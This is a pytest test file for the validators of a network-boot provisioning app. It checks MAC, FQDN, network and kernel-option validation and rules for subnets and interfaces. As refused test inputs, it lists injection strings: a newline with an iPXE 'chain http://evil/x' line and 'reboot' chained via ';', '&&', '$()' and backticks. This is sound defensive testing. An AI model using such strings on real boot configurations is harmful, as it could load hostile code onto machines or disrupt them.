"""The validation tables: what is accepted, what is refused and what the refusal says."""

import re

import pytest
from django.core.exceptions import ValidationError

from dock2box.validators import (
    normalise_fqdn,
    normalise_mac,
    parse_network,
    validate_safe_text,
)
from hosts.models import Host, Interface, Subnet
from tests import factories


@pytest.mark.parametrize(
    "given",
    ["AA-BB-CC-DD-EE-FF", "aabb.ccdd.eeff", "aabbccddeeff", "AA:BB:CC:DD:EE:FF", "aa:bb:cc:dd:ee:ff", " AaBbCcDdEeFf "],
)
def test_mac_spellings_are_stored_lowercase_with_colons(given):
    assert normalise_mac(given) == "aa:bb:cc:dd:ee:ff"


@pytest.mark.parametrize(
    ("given", "says"),
    [
        ("aa:bb:cc:dd:ee", "not a MAC address"),
        ("aa:bb:cc:dd:ee:ff:00", "not a MAC address"),
        ("gg:bb:cc:dd:ee:ff", "not a MAC address"),
        ("aa:bb-cc:dd:ee:ff", "not a MAC address"),
        ("aabbccddeeff;", "not a MAC address"),
        ("", "not a MAC address"),
        ("00:00:00:00:00:00", "zero, broadcast or multicast"),
        ("ff:ff:ff:ff:ff:ff", "zero, broadcast or multicast"),
        ("01:00:5e:00:00:01", "zero, broadcast or multicast"),
    ],
)
def test_bad_macs_are_refused_with_the_fix(given, says):
    with pytest.raises(ValidationError, match=re.escape(says)):
        normalise_mac(given)


@pytest.mark.parametrize(
    ("given", "stored"),
    [
        ("web01.example.com", "web01.example.com"),
        ("WEB01.Example.COM.", "web01.example.com"),
        ("a-b.c0.io", "a-b.c0.io"),
    ],
)
def test_good_fqdns(given, stored):
    assert normalise_fqdn(given) == stored


@pytest.mark.parametrize(
    ("given", "says"),
    [
        ("web01", "needs a domain"),
        ("-web.example.com", "starts or ends with '-'"),
        ("web-.example.com", "starts or ends with '-'"),
        ("under_score.example.com", "characters other than"),
        ("web..example.com", "empty"),
        ("web01.example.123", "numeric label"),
        ("a" * 64 + ".example.com", "longer than 63"),
        ("x." * 127 + "com", "longer than 253"),
        ("web01.example.com\n;reboot", "characters other than"),
    ],
)
def test_bad_fqdns_are_refused(given, says):
    with pytest.raises(ValidationError, match=re.escape(says)):
        normalise_fqdn(given)


@pytest.mark.parametrize("given", ["10.0.0.0/24", "192.168.1.128/25", "10.0.0.5/32", "2001:db8::/64", "fd00::/8"])
def test_good_networks(given):
    assert str(parse_network(given)) == given


@pytest.mark.parametrize(
    ("given", "says"),
    [
        ("10.0.0.1/24", "did you mean 10.0.0.0/24"),
        ("2001:db8::1/64", "did you mean 2001:db8::/64"),
        ("10.0.0.0/33", "not a network"),
        ("10.0.0/24", "not a network"),
        ("ten/8", "not a network"),
    ],
)
def test_bad_networks_say_the_fix(given, says):
    with pytest.raises(ValidationError, match=re.escape(says)):
        parse_network(given)


@pytest.mark.parametrize(
    "given", ["", "console=ttyS0,115200n8 quiet", "ip=10.0.0.5::10.0.0.1:255.255.255.0", "a-b_c.d"]
)
def test_safe_text_accepts_kernel_options(given):
    validate_safe_text(given)


@pytest.mark.parametrize(
    "given",
    [
        "quiet\nchain http://evil/x",
        "quiet\n",
        "quiet\r",
        "a || reboot",
        "a && reboot",
        "a ; reboot",
        "root=${root}",
        "x=$(reboot)",
        "x=`reboot`",
        "x='a'",
        'x="a"',
        "x=a\\b",
        "#comment",
        "tab\there",
        "nul\x00",
    ],
)
def test_safe_text_refuses_what_could_start_a_command_or_expand(given):
    with pytest.raises(ValidationError, match="not allowed"):
        validate_safe_text(given)


@pytest.mark.django_db
class TestSubnetRules:
    def test_subnets_of_one_site_never_overlap(self):
        site = factories.SiteFactory()
        factories.SubnetFactory(site=site, network="10.0.0.0/16")
        subnet = Subnet(site=site, network="10.0.5.0/24")
        with pytest.raises(ValidationError, match=re.escape("overlaps 10.0.0.0/16")):
            subnet.full_clean()

    def test_overlap_is_refused_the_same_way_within_a_site_and_across_sites(self):
        existing = factories.SubnetFactory(network="10.0.0.0/16")
        for site in (existing.site, factories.SiteFactory()):
            for network in ("10.0.5.0/24", "10.0.0.0/16", "10.0.0.0/8"):
                with pytest.raises(ValidationError, match=f"overlaps 10.0.0.0/16, a subnet of site {existing.site}"):
                    Subnet(site=site, network=network).full_clean()
        Subnet(site=factories.SiteFactory(), network="10.1.0.0/16").full_clean()

    def test_an_address_in_a_reserved_range_is_refused_for_a_host(self):
        subnet = factories.SubnetFactory(network="10.7.0.0/24", reserved="10.7.0.1-10.7.0.20, 10.7.0.250")
        host = factories.HostFactory(site=subnet.site)
        for address, says in (("10.7.0.5", "(10.7.0.1-10.7.0.20)"), ("10.7.0.250", "(10.7.0.250)")):
            with pytest.raises(ValidationError, match=re.escape(f"{address} is reserved in subnet 10.7.0.0/24 {says}")):
                Interface(host=host, name="eth0", mac="52:54:00:07:00:01", ip=address).full_clean()
        Interface(host=host, name="eth0", mac="52:54:00:07:00:01", ip="10.7.0.21").full_clean()

    def test_a_host_name_outside_its_sites_domain_is_refused_and_upper_case_is_lowered(self):
        site = factories.SiteFactory(domain="lab.example.com")
        with pytest.raises(ValidationError, match=re.escape("name it web01.lab.example.com")):
            Host(fqdn="web01.example.org", site=site).full_clean()
        host = Host(fqdn="WEB01.Lab.Example.COM.", site=site)
        host.full_clean()
        assert host.fqdn == "web01.lab.example.com"
        Host(fqdn="web02.example.org").full_clean()  # no site: any name
        host.save()
        site.domain = "other.example.com"
        with pytest.raises(ValidationError, match=r"1 host.* outside other.example.com .first: web01.lab.example.com"):
            site.full_clean()

    @pytest.mark.parametrize(
        ("gateway", "says"),
        [("10.1.0.0", "network or broadcast"), ("10.2.0.1", "outside"), ("10.1.0.255", "broadcast")],
    )
    def test_gateway_inside_the_network(self, gateway, says):
        with pytest.raises(ValidationError, match=re.escape(says)):
            Subnet(site=factories.SiteFactory(), network="10.1.0.0/24", gateway=gateway).full_clean()

    def test_reserved_ranges_inside_the_network(self):
        with pytest.raises(ValidationError, match="not a range inside"):
            Subnet(site=factories.SiteFactory(), network="10.1.0.0/24", reserved="10.1.1.1-10.1.1.5").full_clean()


@pytest.mark.django_db
class TestInterfaceRules:
    @pytest.fixture
    def subnet(self):
        return factories.SubnetFactory(network="10.1.0.0/24", gateway="10.1.0.1")

    def test_ip_finds_its_subnet_and_takes_netmask_and_gateway(self, subnet):
        interface = Interface(host=factories.HostFactory(), name="eth0", mac="aa:bb:cc:dd:ee:01", ip="10.1.0.7")
        interface.full_clean()
        assert (interface.subnet, interface.netmask, interface.gateway) == (subnet, "255.255.255.0", "10.1.0.1")

    @pytest.mark.parametrize(
        ("values", "field", "says"),
        [
            ({"ip": "10.9.0.7"}, "ip", "outside subnet"),
            ({"ip": "10.1.0.1"}, "ip", "gateway"),
            ({"ip": "10.1.0.255"}, "ip", "broadcast"),
            ({"ip": "10.1.0.7", "netmask": "255.255.0.0"}, "netmask", "has netmask 255.255.255.0"),
            ({"ip": "10.1.0.7", "gateway": "10.2.0.1"}, "gateway", "outside subnet"),
        ],
    )
    def test_ip_netmask_gateway_consistent_with_the_subnet(self, subnet, values, field, says):
        interface = Interface(
            host=factories.HostFactory(), name="eth0", mac="aa:bb:cc:dd:ee:01", subnet=subnet, **values
        )
        with pytest.raises(ValidationError, match=re.escape(says)) as error:
            interface.full_clean()
        assert field in error.value.message_dict

    def test_ip_outside_every_subnet_needs_a_netmask(self):
        interface = Interface(host=factories.HostFactory(), name="eth0", mac="aa:bb:cc:dd:ee:01", ip="192.0.2.7")
        with pytest.raises(ValidationError, match=re.escape("No subnet holds 192.0.2.7")):
            interface.full_clean()
        interface.netmask = "255.255.255.0"
        interface.full_clean()

    def test_duplicate_mac_and_ip_refused(self, subnet):
        factories.InterfaceFactory(mac="aa:bb:cc:dd:ee:01", ip="10.1.0.7", subnet=subnet)
        interface = Interface(host=factories.HostFactory(), name="eth0", mac="AA-BB-CC-DD-EE-01", ip="10.1.0.7")
        with pytest.raises(ValidationError) as error:
            interface.full_clean()
        holder = Interface.objects.get(mac="aa:bb:cc:dd:ee:01")
        where = f"eth0 of {holder.host.fqdn}."
        assert error.value.message_dict["mac"] == [f"Another interface has this MAC (aa:bb:cc:dd:ee:01): {where}"]
        assert error.value.message_dict["ip"] == [f"Another interface has this IP (10.1.0.7): {where}"]

    def test_mac_lookup_accepts_any_spelling(self):
        interface = factories.InterfaceFactory(mac="aa:bb:cc:dd:ee:01")
        assert Interface.objects.get(mac="AABB.CCDD.EE01") == interface
